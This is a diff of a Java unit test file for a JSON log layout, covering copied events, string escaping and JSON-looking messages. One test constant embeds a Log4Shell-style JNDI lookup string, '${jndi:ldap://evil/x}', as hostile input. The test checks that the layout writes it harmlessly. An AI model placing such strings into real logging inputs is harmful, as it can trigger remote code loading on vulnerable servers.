@@ -6,9 +6,10 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
-import dev.log4jpool.message.StructuredFields;
 import dev.log4jpool.message.StructuredMessage;
 import java.util.List;
+import org.apache.logging.log4j.core.LogEvent;
+import org.apache.logging.log4j.core.impl.Log4jLogEvent;
 import org.apache.logging.log4j.core.impl.MutableLogEvent;
 import org.apache.logging.log4j.util.StringBuilderFormattable;
 import org.junit.jupiter.api.Test;
@@ -102,7 +103,8 @@ class StructuredMessageJsonTest {
             event.setLoggerName("l");
             event.setTimeMillis(Events.EPOCH_MILLIS + i);
             event.setMessage(StructuredMessage.of("n" + i).with("i", i).with("half", i / 2.0));
-            assertEquals("n" + i + " i=" + i + " half=" + (i / 2.0), event.getFormattedMessage(), "readable text for other layouts");
+            assertEquals("n" + i + " {\"i\":" + i + ",\"half\":" + (i / 2.0) + "}", event.getFormattedMessage(),
+                    "readable text for other layouts");
             JsonNode json = encode(layout, event);
             assertEquals("n" + i, json.get("message").textValue());
             assertEquals(i, json.get("i").intValue());
@@ -112,25 +114,102 @@ class StructuredMessageJsonTest {
     }
 
     @Test
-    void aCopiedEventKeepsItsFieldsOrFallsBackToItsTextNeverToOtherFields() {
-        // What Log4j's AsyncAppender does: copy the event (a memento), let the original be cleared.
+    void aCopiedEventKeepsItsTypedFieldsAfterTheOriginalIsReused() {
+        // What Log4j's AsyncAppender does: copy the event (a memento), let the original be cleared and reused.
         MutableLogEvent event = Events.event(StructuredMessage.of("one").with("n", 1).with("ok", true));
-        org.apache.logging.log4j.core.LogEvent copy = org.apache.logging.log4j.core.impl.Log4jLogEvent.createMemento(event);
-        JsonNode beforeReuse = encode(layout, copy);
-        assertEquals("one", beforeReuse.get("message").textValue());
-        assertEquals(1, beforeReuse.get("n").intValue());
-        assertTrue(beforeReuse.get("ok").booleanValue());
-
-        event.clear(); // the carrier is free now: hand carriers over until this thread's message refills it
-        Object[] scratch = new Object[1];
-        for (int i = 0; i < 1_000 && "one".equals(StructuredFields.of(copy.getMessage(), scratch).message()); i++) {
-            MutableLogEvent other = new MutableLogEvent();
-            other.setMessage(StructuredMessage.of("two").with("n", 2).with("other", "x"));
-            other.clear();
+        LogEvent copy = Log4jLogEvent.createMemento(event);
+        event.clear();
+        for (int i = 0; i < 1_000; i++) {
+            event.setMessage(StructuredMessage.of("two").with("n", 2).with("other", "x"));
+            event.clear();
         }
-        assertEquals("two", StructuredFields.of(copy.getMessage(), scratch).message(), "the copy's carrier was refilled");
-        JsonNode afterReuse = encode(layout, copy);
-        assertEquals("one n=1 ok=true", afterReuse.get("message").textValue(), "the copy's own text");
-        assertTrue(!afterReuse.has("n") && !afterReuse.has("other"), afterReuse.toString());
+        JsonNode json = encode(layout, copy);
+        assertEquals("one", json.get("message").textValue());
+        assertTrue(json.get("n").isIntegralNumber());
+        assertEquals(1, json.get("n").intValue());
+        assertTrue(json.get("ok").isBoolean() && json.get("ok").booleanValue());
+        assertTrue(!json.has("other"), json.toString());
+    }
+
+    private static final String NASTY = "q\"b\\s/\b\f\n\r\t\u0001\u001f\u007f é \uD83D\uDE00 lone\uD800 rev\uDC00\uD800 "
+            + "${jndi:ldap://evil/x} {\"k\":1} \\\" }";
+
+    private static StructuredMessage nasty() {
+        return StructuredMessage.of(NASTY).with(NASTY, NASTY).with("n", -7L).with("d", 2.5e-7).with("b", false)
+                .with("sb", new StringBuilder(NASTY)).with("nul", (Object) null).with("{", "}").with("\\", "\"");
+    }
+
+    @Test
+    void everyCarrierOfTheTextGivesTheSameObject() {
+        // The message itself (thread locals off: a plain Log4jLogEvent holds it), Log4j's reusable
+        // event, and a copy of that event (AsyncAppender): one and the same JSON.
+        LogEvent direct = Log4jLogEvent.newBuilder().setLevel(org.apache.logging.log4j.Level.INFO)
+                .setLoggerName("shop.Orders").setThreadName("main").setTimeMillis(Events.EPOCH_MILLIS)
+                .setMessage(nasty().memento()).build();
+        MutableLogEvent reusable = Events.event(nasty());
+        LogEvent copied = Log4jLogEvent.createMemento(reusable);
+        String expected = LayoutTesting.encodeToText(layout, direct);
+        assertEquals(expected, LayoutTesting.encodeToText(layout, reusable));
+        assertEquals(expected, LayoutTesting.encodeToText(layout, copied));
+        JsonNode json = encode(layout, reusable);
+        String sanitized = NASTY.replace("lone\uD800", "lone\uFFFD").replace("rev\uDC00\uD800", "rev\uFFFD\uFFFD");
+        assertEquals(sanitized, json.get("message").textValue());
+        assertEquals(sanitized, json.get(sanitized).textValue());
+        assertEquals(sanitized, json.get("sb").textValue());
+        assertEquals(-7L, json.get("n").longValue());
+        assertTrue(json.get("d").isFloatingPointNumber());
+        assertEquals(2.5e-7, json.get("d").doubleValue());
+        assertTrue(json.get("b").isBoolean() && !json.get("b").booleanValue());
+        assertTrue(json.get("nul").isNull());
+        assertEquals("}", json.get("{").textValue());
+        assertEquals("\"", json.get("\\").textValue());
+    }
+
+    @Test
+    void splicedFieldsAreWrittenAsTheLayoutWritesMapEntries() {
+        // maxStringLength, the truncation marker and ASCII mode apply to spliced keys and values
+        // exactly as to any other run-time key and value (here a StringMapMessage's, sorted by key).
+        for (PooledJsonLayout configured : new PooledJsonLayout[] {
+            builder().setMessageKey("").build(),
+            builder().setMessageKey("").setMaxStringLength(6).build(),
+            builder().setMessageKey("").setCharset("US-ASCII").setMaxStringLength(9).build()}) {
+            String key = "k\u00e9y\uD83D\uDE00\n\"long key";
+            String value = "v\u00e0lue\uD83D\uDE00\u0002\\long value";
+            StructuredMessage structured = StructuredMessage.of("m").with("a" + key, value).with("b" + key, "x")
+                    .with("c", NASTY);
+            org.apache.logging.log4j.message.StringMapMessage map = new org.apache.logging.log4j.message.StringMapMessage()
+                    .with("a" + key, value).with("b" + key, "x").with("c", NASTY);
+            assertEquals(LayoutTesting.encodeToText(configured, Events.event(map)),
+                    LayoutTesting.encodeToText(configured, Events.event(structured)));
+        }
+    }
+
+    @Test
+    void aMessageThatLooksLikeJsonIsStillTheMessage() {
+        for (String text : new String[] {"ends with }", "{\"a\":1}", "x {\"a\":1}", "\\", "\"", "", " ", "{", "}"}) {
+            JsonNode json = encode(layout, Events.event(StructuredMessage.of(text)));
+            assertEquals(text, json.get("message").textValue());
+            assertEquals(List.of("@timestamp", "level", "logger", "thread", "message"), Json.keys(json));
+            JsonNode withField = encode(layout, Events.event(StructuredMessage.of(text).with("a", 2)));
+            assertEquals(text, withField.get("message").textValue());
+            assertEquals(2, withField.get("a").intValue());
+        }
+        JsonNode nullMessage = encode(layout, Events.event(StructuredMessage.of(null).with("a", 1)));
+        assertTrue(nullMessage.get("message").isNull());
+        assertEquals(1, nullMessage.get("a").intValue());
+    }
+
+    @Test
+    void textForgedWithTheFormatButNotOursIsWrittenWhole() {
+        // Only StructuredMessage makes this text; anything else with its format is written as text.
+        for (String text : new String[] {"no object", "x {", "x {\"a\"}", "x{\"a\":1}", "x {\"a\":1,}", "x {\"a\":[1]}",
+                "x {\"a\":\"\\q\"}", "}", "x {\"a\":1}}"}) {
+            LogEvent event = Log4jLogEvent.newBuilder().setLevel(org.apache.logging.log4j.Level.INFO).setLoggerName("l")
+                    .setMessage(new org.apache.logging.log4j.core.impl.MementoMessage(text, StructuredMessage.FORMAT, null))
+                    .build();
+            JsonNode json = encode(layout, event);
+            assertEquals(text, json.get("message").textValue(), json.toString());
+            assertEquals(List.of("@timestamp", "level", "logger", "thread", "message"), Json.keys(json));
+        }
     }
 }
